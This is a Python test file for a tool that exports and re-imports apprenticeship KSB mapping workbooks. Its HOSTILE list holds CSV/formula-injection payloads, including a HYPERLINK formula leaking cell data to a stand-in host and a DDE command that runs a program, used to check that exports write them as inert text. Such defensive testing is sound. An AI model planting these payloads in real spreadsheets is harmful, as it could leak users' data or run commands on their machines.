"""The KSB mapping workbook: export, re-import unchanged, and clear errors for broken sheets."""

import io

import pytest
from openpyxl import load_workbook

from htq import coverage, documents, embed, mapping_sheet, programme
from htq.errors import HTQError
from htq.mapping_sheet import SheetError

from .conftest import FIXTURES

SPEC = FIXTURES / "programmes" / "software-spec.txt"


@pytest.fixture(scope="module")
def mapping(snap):
    embedder = embed.ContextualEmbedder()
    structure = programme.read_structure(SPEC.read_bytes(), SPEC.name)
    proposal = coverage.propose(structure.modules, [snap.data.content["ST0116"], snap.data.content["ST0118"]], embedder)
    rows = coverage.apply_edits(
        proposal.rows,
        [
            {
                "standard": "ST0116",
                "code": "B1",
                "coverage": "partial",
                "notes": "Delivered in the workplace; see WBL log",
            },
            {"standard": "ST0118", "code": "K1", "decision": "Rejected"},
        ],
    )
    return structure, rows


def test_round_trip_restores_the_same_mapping(mapping):
    structure, rows = mapping
    blob = mapping_sheet.to_xlsx(structure.title, rows, structure.modules, {"Snapshot": "2026-07-06"})
    restored = mapping_sheet.from_xlsx(blob, "ksb-mapping.xlsx")
    assert restored.programme == structure.title
    assert restored.modules == tuple(structure.modules)
    assert restored.rows == tuple(rows)


def test_workbook_has_the_applicant_sheets(mapping):
    structure, rows = mapping
    book = load_workbook(io.BytesIO(mapping_sheet.to_xlsx(structure.title, rows, structure.modules, {})))
    assert book.sheetnames == ["KSB mapping", "Qualification structure", "About"]
    header = [c.value for c in book["KSB mapping"][1]]
    assert header[:10] == [
        "Standard",
        "Version",
        "Type",
        "Code",
        "Statement",
        "Mapped modules",
        "Mapped outcomes",
        "Coverage",
        "Assessment",
        "Notes",
    ]
    assert book["KSB mapping"].max_row == len(rows) + 1
    assert [c.value for c in book["Qualification structure"][1]][:5] == [
        "Code",
        "Title",
        "Level",
        "Credits",
        "Core/optional",
    ]


def test_csv_has_one_row_per_ksb(mapping):
    structure, rows = mapping
    text = mapping_sheet.to_csv(rows, structure.modules).decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Standard,Version,Type,Code,Statement")


def _edit(blob, sheet, fn):
    book = load_workbook(io.BytesIO(blob))
    fn(book[sheet])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_missing_column_is_named(mapping):
    structure, rows = mapping
    blob = mapping_sheet.to_xlsx(structure.title, rows, structure.modules, {})
    broken = _edit(blob, "KSB mapping", lambda ws: ws.delete_cols(8))  # Coverage
    with pytest.raises(SheetError, match="missing column\\(s\\) Coverage"):
        mapping_sheet.from_xlsx(broken, "edited.xlsx")


def test_bad_grade_is_named_with_its_row(mapping):
    structure, rows = mapping
    blob = mapping_sheet.to_xlsx(structure.title, rows, structure.modules, {})
    broken = _edit(blob, "KSB mapping", lambda ws: setattr(ws.cell(row=3, column=8), "value", "mostly"))
    with pytest.raises(SheetError, match="row 3: coverage must be full, partial or none, not “mostly”"):
        mapping_sheet.from_xlsx(broken, "edited.xlsx")


@pytest.mark.parametrize(
    "blob, name, message",
    [
        (b"PK\x03\x04corrupt", "m.xlsx", "not a readable .xlsx"),
        (b"Standard,Code\n", "m.csv", "re-open the .xlsx"),
    ],
)
def test_unreadable_sheets(blob, name, message):
    with pytest.raises(HTQError, match=message):
        mapping_sheet.from_xlsx(blob, name)


def test_a_sheet_without_the_mapping_tab(tmp_path):
    import pandas as pd

    from htq.report import table_xlsx

    with pytest.raises(documents.SpreadsheetError, match="no sheet called “KSB mapping”"):
        mapping_sheet.from_xlsx(table_xlsx(pd.DataFrame({"a": [1]}), "Other", {}), "other.xlsx")


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "'already quoted",
    "  padded  ",
    "<script>alert(1)</script>",
]


def _formula_cells(blob):
    book = load_workbook(io.BytesIO(blob))  # not data_only: a formula would show as one
    return [
        (ws.title, c.coordinate, c.value)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_every_field_is_exported_as_text_and_reopens_unchanged(text):
    from htq.coverage import Evidence, MappingRow
    from htq.programme import Module

    module = Module(
        code=f"{text}M1",
        title=f"{text} title",
        level=4,
        credits=20,
        core=True,
        outcomes=(f"{text} outcome", "second outcome"),
        assessment=f"{text} assessment",
    )
    row = MappingRow(
        "ST0116",
        "1.1",
        "knowledge",
        "K1",
        f"{text} statement",
        "partial",
        "full",
        (Evidence(module.code, f"{text} outcome", 0.61),),
        0.61,
        "high",
        decision=coverage.CHANGED,
        notes=f"{text} note",
        decided_by=f"{text} name",
        decided_at="2026-12-02 10:00 UTC",
    )
    blob = mapping_sheet.to_xlsx(f"{text} programme", [row], [module], {"Snapshot": "2026-07-06"})
    assert _formula_cells(blob) == []
    restored = mapping_sheet.from_xlsx(blob, "ksb-mapping.xlsx")
    assert restored.programme == f"{text} programme"
    assert restored.modules == (module,)
    assert restored.rows == (row,)


def test_every_export_writes_text_as_text():
    import pandas as pd

    from htq import report

    frame = pd.DataFrame({"Title": HOSTILE, "Level": range(len(HOSTILE))})
    assert _formula_cells(report.table_xlsx(frame, "Standards", {"Note": HOSTILE[0]})) == []
    assert _formula_cells(report.committee_xlsx({"Summary": frame}, frame, frame, {"Note": HOSTILE[0]})) == []
    import csv

    rows = list(csv.reader(io.StringIO(report.table_csv(frame).decode("utf-8-sig"), newline="")))
    cells = [r[0] for r in rows[1:]]
    assert len(cells) == len(HOSTILE)
    for cell, text in zip(
        cells, HOSTILE, strict=True
    ):  # OWASP: a cell a spreadsheet would read as a formula gets a quote
        assert cell == ("'" + text if text.startswith(report.FORMULA_STARTS) else text)
    assert report.csv_cell(-2) == -2 and report.csv_cell("plain") == "plain" and report.csv_cell("=1") == "'=1"
